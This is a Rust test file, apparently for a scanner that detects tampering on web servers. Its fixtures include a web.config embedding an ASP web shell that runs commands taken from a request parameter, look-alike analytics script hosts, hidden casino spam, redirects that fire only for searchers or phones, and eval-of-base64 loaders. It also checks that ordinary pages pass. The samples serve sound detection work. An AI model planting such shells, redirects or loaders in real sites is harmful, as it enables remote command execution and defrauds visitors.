        let itself = "<configuration><system.webServer><security><requestFiltering>\n<fileExtensions><remove fileExtension=\".config\" /></fileExtensions>\n</requestFiltering></security></system.webServer></configuration>\n<!-- <% Response.Write(CreateObject(\"WScript.Shell\").Exec(Request(\"c\")).StdOut.ReadAll()) %> -->";
        assert_eq!(
            ids("/inetpub/wwwroot/web.config", itself),
            ["scan.tamper.handler", "scan.tamper.config_code"]
        );
        // An ordinary site: ASP.NET handlers for its own pages, `.html` rewritten to ASP.NET.
        let site = "<configuration><system.webServer><handlers>\n<add name=\"PageHandlerFactory-ISAPI-4.0\" path=\"*.aspx\" verb=\"GET,POST\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\Microsoft.NET\\Framework\\v4.0.30319\\aspnet_isapi.dll\" />\n<add name=\"html\" path=\"*.html\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\" />\n</handlers></system.webServer><connectionStrings><add name=\"db\" connectionString=\"Server=.;Database=a\" /></connectionStrings></configuration>";
        assert!(ids("/inetpub/wwwroot/web.config", site).is_empty());
        // A marker that opens and closes at once is no block, and no panic.
        assert!(ids("/inetpub/wwwroot/web.config", "<configuration/><%>").is_empty());
    }

    #[test]
    fn tampering_as_it_appears_in_the_wild() {
        // A look-alike script host in the page's head.
        assert_eq!(
            ids(
                "/var/www/index.html",
                "<html><head><script src=\"https://googletagmanager.com.cdn-stat.net/gtm.js\"></script></head></html>"
            ),
            ["scan.tamper.injected_script"]
        );
        assert_eq!(
            ids(
                "/var/www/index.html",
                "<html><head><script src=\"//g00gle-analytics.com/ga.js\"></script></head></html>"
            ),
            ["scan.tamper.injected_script"]
        );
        assert_eq!(
            ids(
                "/var/www/index.html",
                "<html><head><script src=\"https://cdn.jquery-ui.top/j.js\"></script></head></html>"
            ),
            ["scan.tamper.injected_script"]
        );
        // A single hidden spam link; hidden spam text.
        assert_eq!(
            ids(
                "/var/www/index.html",
                "<html><body><div style=\"position:absolute;left:-9999px\"><a href=\"http://x.example/\">online casino</a></div></body></html>"
            ),
            ["scan.tamper.seo_spam"]
        );
        assert_eq!(
            ids(
                "/var/www/index.html",
                "<html><body><p style=\"display:none\">澳门 百家乐 casino bonus</p></body></html>"
            ),
            ["scan.tamper.seo_spam"]
        );
        // Redirects for searchers only, for phones only, to a throwaway domain, after </html>.
        assert_eq!(
            ids(
                "/var/www/index.html",
                "<html><body><script>var r=document.referrer; if (r.indexOf('baidu')>=0||r.indexOf('google')>=0) { window.location.href='http://tz.example/'; }</script></body></html>"
            ),
            ["scan.tamper.redirect"]
        );
        assert_eq!(
            ids(
                "/var/www/index.html",
                "<html><body><script>if(/Android|iPhone/i.test(navigator.userAgent)){location.replace(\"https://tz.example.net/\")}</script></body></html>"
            ),
            ["scan.tamper.redirect"]
        );
        assert_eq!(
            ids(
                "/var/www/index.html",
                "<html><head><meta http-equiv=\"refresh\" content=\"0;url=http://win-prize.top/\"></head></html>"
            ),
            ["scan.tamper.redirect"]
        );
        assert_eq!(
            ids(
                "/var/www/index.html",
                "<html><body>shop</body></html>\n<script>window.location=\"https://other.example.org/\"</script>"
            ),
            ["scan.tamper.redirect"]
        );
        // Loaders: eval of base64, the packer, markup in hex escapes.
        assert_eq!(
            ids(
                "/var/www/index.html",
                "<html><script>eval(atob('ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQ+Jyk='))</script></html>"
            ),
            ["scan.tamper.obfuscated_loader"]
        );
        assert_eq!(
            ids(
                "/var/www/index.html",
                "<html><script>eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script></html>"
            ),
            ["scan.tamper.obfuscated_loader"]
        );
    }

    #[test]
    fn ordinary_pages_stay_quiet_with_cdns_analytics_and_their_own_redirects() {
        let quiet = [
            "<html><head><script async src=\"https://www.googletagmanager.com/gtag/js?id=G-1\"></script><script src=\"https://ajax.googleapis.com/ajax/libs/jquery/3.7.1/jquery.min.js\"></script><script src=\"https://cdnjs.cloudflare.com/ajax/libs/x/1/x.js\"></script><script src=\"https://hm.baidu.com/hm.js?abc\"></script><script src=\"https://s4.cnzz.com/z_stat.php?id=1\"></script><script src=\"https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js\"></script></head><body>shop</body></html>",
            // The owner's own move to a new address, and a login page's return.
            "<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://www.example-shop.com/\"></head></html>",
            "<html><body><script>if (!loggedIn) { window.location.href = '/login?next=' + encodeURIComponent(location.pathname); }</script></body></html>",
            "<html><body><script>function go(u){ window.location = u; }</script><a href=\"#\" style=\"display:none\">skip</a></body></html>",
            // A responsive site sends phones to its own mobile pages.
            "<html><body><script>if (/Mobile/.test(navigator.userAgent)) { location.href = '/m/'; }</script></body></html>",
            "<html><body><script>if (/iPhone|Android/.test(navigator.userAgent)) { location.href = 'https://m.example-shop.com/'; }</script></body></html>",
            "<html><head><link rel=\"canonical\" href=\"https://www.example-shop.com/\"></head><body><script>if (/Android/.test(navigator.userAgent)) { location.replace('https://shop.example-shop.com/app'); }</script></body></html>",
            // A hidden menu of ordinary links.
            "<html><body><ul style=\"display:none\"><li><a href=\"/a\">About</a></li><li><a href=\"/b\">Blog</a></li></ul></body></html>",
        ];
        for page in quiet {
            assert!(ids("/var/www/index.html", page).is_empty(), "{page}");
        }
        // A packed library in its own file is the library's business.
        assert!(
            ids(
                "/var/www/js/packed.js",
                "eval(function(p,a,c,k,e,d){return p}('x',1,1,'x'.split('|'),0,{}))"
            )
            .is_empty()
        );
    }

    #[test]
    fn ordinary_pages_and_settings_are_quiet() {
        assert!(
            ids(
                "/var/www/.user.ini",
                "; auto_prepend_file=/tmp/x\nauto_prepend_file = none\nupload_max_filesize=8M\n"
            )
            .is_empty()
        );
        assert!(ids("/var/www/.htaccess", "RewriteEngine On\nRewriteRule ^index\\.php$ - [L]\nAddType application/x-httpd-php .php\n").is_empty());
        assert!(ids("/var/www/index.html", "<html><head><script src=\"https://cdn.example.com/jquery.js\"></script></head><body><div style=\"display:none\"><a href=\"/a\">a</a></div></body></html>").is_empty());
        // WordPress embeds: margins of 0 are not a hidden frame, and the src is a template.
        assert!(ids("/var/www/embed.php", "<iframe src=\"%1$s\" width=\"%2$d\" height=\"%3$d\" frameborder=\"0\" marginwidth=\"0\" marginheight=\"0\">").is_empty());
        assert!(
            ids(
                "/var/www/js/lib.js",
                "var s = String.fromCharCode(0xD800); document.createElement('script');"
            )
            .is_empty()
        );
    }

    /// Multi-byte text just before a redirect: the look-back window starts inside a character.
    #[test]
    fn a_redirect_after_chinese_text_does_not_panic() {
        let page = format!(
            "<html><body>{}<script>location=\"http://a.top/\"</script></body></html>",
            "澳门".repeat(150)
        );
        assert_eq!(ids("/var/www/index.html", &page), ["scan.tamper.redirect"]);
        for cut in 0..8 {
            let page = format!(
                "{}{}location=\"http://a.top/\"",
                "x".repeat(cut),
                "澳门".repeat(300)
            );
            let _ = scan("/var/www/index.html", page.as_bytes());
        }
    }

    proptest::proptest! {
        #[test]
        fn never_panics(s in "(<script src=\"http://|<iframe|display:none|<a |</html>|casino|auto_prepend_file|澳门|百家乐|location=\"http://a.top/\"|<meta http-equiv=refresh content=\"0;url=http://b.xyz\">|document.referrer|baidu|useragent|iphone|href=\"http://c.example/\"|<add path=\"\\*.jpg\" scriptprocessor=\"asp.dll\"|<%|%>|<%>|<!--#exec cmd=|<!--#exec|-->|\\$query_string|\\$\\{http_|日|=|\"|'|/|\n|[a-z0-9 .:]){0,60}") {
            for n in ["a.html", "a.shtml", ".htaccess", ".user.ini", "a.php", "web.config"] {
                let _ = scan(n, s.as_bytes());
            }
        }
    }
}
